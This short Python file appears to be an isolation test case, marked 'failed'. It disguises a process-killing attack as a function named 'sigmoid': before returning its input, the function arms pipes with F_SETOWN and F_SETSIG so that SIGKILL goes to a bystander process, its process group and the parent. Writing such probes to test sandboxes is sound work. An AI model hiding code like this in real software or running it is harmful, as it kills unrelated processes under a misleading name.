"""Lets a pipe of its own send the signal that ends a process which has nothing to do with it.

State: failed
"""

import fcntl
import os
import signal
import time

import host

F_SETSIG = 10


def sigmoid(x):
    for pid in (host.BYSTANDER, -host.BYSTANDER, os.getppid()):
        reader, writer = os.pipe()
        fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reader, F_SETSIG, int(signal.SIGKILL))
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    time.sleep(0.1)
    return x
